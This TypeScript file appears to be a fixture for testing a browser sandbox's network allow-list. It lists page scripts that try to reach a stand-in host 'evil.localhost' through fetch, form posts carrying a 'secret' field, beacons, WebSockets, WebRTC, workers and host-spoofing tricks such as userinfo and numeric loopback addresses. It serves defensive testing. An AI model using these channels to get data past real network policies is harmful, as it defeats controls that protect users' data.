/** Way by which a page tries to reach a host that its session may not reach. */
export interface Attack {
  readonly name: string;
  /** Expression in a page of the friendly site; its promise settles when the try is over. */
  readonly script: (port: number, host?: string) => string;
  /** False for a try that reaches nothing from a session that may reach everything either. */
  readonly reachesWhenOpen?: false;
}

const at = (port: number, host = "evil.localhost"): string => `${host}:${port}`;

/** Ends with the `load` or `error` event of an element with the given attributes. */
const element = (tag: string, attributes: string): string => `new Promise((resolve) => {
  const made = Object.assign(document.createElement("${tag}"), ${attributes});
  made.onload = made.onerror = () => resolve();
  document.body.append(made);
})`;

/** Adds a hint that has no event, and ends with a later request of the page. */
const hint = (rel: string, port: number): string => `(async () => {
  document.head.append(Object.assign(document.createElement("link"), { rel: "${rel}", href: "http://${at(port)}/" }));
  await fetch("/later");
})()`;

/** Ways out of a page, each a promise. */
export const attacks: readonly Attack[] = [
  { name: "fetch", script: (port, host) => `fetch("http://${at(port, host)}/", { mode: "no-cors" }).catch(() => {})` },
  { name: "fetch by https", script: (port) => `fetch("https://${at(port)}/", { mode: "no-cors" }).catch(() => {})` },
  {
    name: "fetch that is redirected by an allowed host",
    script: (port) => `fetch("/?to=http://${at(port)}/", { mode: "no-cors" }).catch(() => {})`,
  },
  { name: "image", script: (port) => element("img", `{ src: "http://${at(port)}/a.png" }`) },
  { name: "script", script: (port) => element("script", `{ src: "http://${at(port)}/a.js" }`) },
  { name: "style sheet", script: (port) => element("link", `{ rel: "stylesheet", href: "http://${at(port)}/a.css" }`) },
  { name: "frame", script: (port) => element("iframe", `{ src: "http://${at(port)}/" }`) },
  {
    name: "preload",
    script: (port) => element("link", `{ rel: "preload", as: "image", href: "http://${at(port)}/" }`),
  },
  { name: "prefetch", script: (port) => element("link", `{ rel: "prefetch", href: "http://${at(port)}/" }`) },
  { name: "preconnect", script: (port) => hint("preconnect", port) },
  {
    name: "DNS prefetch",
    script: (port) => hint("dns-prefetch", port),
    reachesWhenOpen: false,
  },
  {
    name: "form that is sent into a frame",
    script: (port) => `new Promise((resolve) => {
      document.body.insertAdjacentHTML("beforeend", '<iframe name="sink"></iframe><form id="out" method="post" target="sink" action="http://${at(port)}/"><input name="secret" value="1"></form>');
      document.querySelector("iframe[name=sink]").onload = () => resolve();
      document.getElementById("out").submit();
    })`,
  },
  { name: "beacon", script: (port) => `navigator.sendBeacon("http://${at(port)}/", "x")` },
  {
    name: "event source",
    script: (port) => `new Promise((resolve) => {
      const source = new EventSource("http://${at(port)}/");
      source.onopen = source.onerror = () => { source.close(); resolve(); };
    })`,
  },
  {
    name: "WebSocket",
    script: (port, host) => `new Promise((resolve) => {
      const socket = new WebSocket("ws://${at(port, host)}/");
      socket.onopen = socket.onerror = () => { socket.close(); resolve(); };
    })`,
  },
  {
    name: "WebTransport",
    script: (port) => `(async () => { await new WebTransport("https://127.0.0.1:${port}/").ready; })().catch(() => {})`,
    reachesWhenOpen: false,
  },
  {
    name: "worker",
    script: (port) => `new Promise((resolve) => {
      const code = 'fetch("http://${at(port)}/", { mode: "no-cors" }).catch(() => {}).then(() => postMessage(1))';
      new Worker(URL.createObjectURL(new Blob([code]))).onmessage = () => resolve();
    })`,
  },
  {
    name: "service worker",
    script: (port) => `(async () => {
      await navigator.serviceWorker.register("/worker.js");
      const { active } = await navigator.serviceWorker.ready;
      const done = new Promise((resolve) => navigator.serviceWorker.addEventListener("message", resolve, { once: true }));
      navigator.serviceWorker.startMessages();
      active.postMessage("http://${at(port)}/");
      await done;
    })()`,
  },
  {
    name: "WebRTC with a STUN server, and a TURN server over TCP",
    script: (port) => `(async () => {
      const peer = new RTCPeerConnection({ iceServers: [
        { urls: "stun:127.0.0.1:${port}" },
        { urls: "turn:127.0.0.1:${port}?transport=udp", username: "u", credential: "p" },
        { urls: "turn:127.0.0.1:${port}?transport=tcp", username: "u", credential: "p" },
      ] });
      peer.createDataChannel("x");
      const done = new Promise((resolve) => {
        peer.onicegatheringstatechange = () => peer.iceGatheringState === "complete" && resolve();
      });
      await peer.setLocalDescription(await peer.createOffer());
      await done;
      peer.close();
    })()`,
  },
  ...[
    ["a host below an allowed one", "below.good.localhost"],
    ["a host that ends like an allowed one", "evilgood.localhost"],
    ["a host that begins like an allowed one", "good.localhost.evil.localhost"],
    ["the domain of a wildcard itself", "wild.localhost"],
    ["an allowed host as the user of another", "good.localhost@evil.localhost"],
    ["this machine", "localhost"],
    ["an IPv4 address", "127.0.0.1"],
    ["an IPv4 address as one number", "2130706433"],
    ["an IPv4 address in hexadecimals", "0x7f.1"],
    ["an IPv6 address", "[::1]"],
    ["an IPv4 address inside an IPv6 address", "[::ffff:127.0.0.1]"],
    ["any address of this machine", "0.0.0.0"],
    ["an international host", "bücher.localhost"],
  ].map(
    ([name = "", host = ""]): Attack => ({
      name: `fetch of ${name}`,
      script: (port) => `fetch("http://${host}:${port}/", { mode: "no-cors" }).catch(() => {})`,
      ...(/user of another|any address/.test(name) && { reachesWhenOpen: false as const }),
    }),
  ),
];
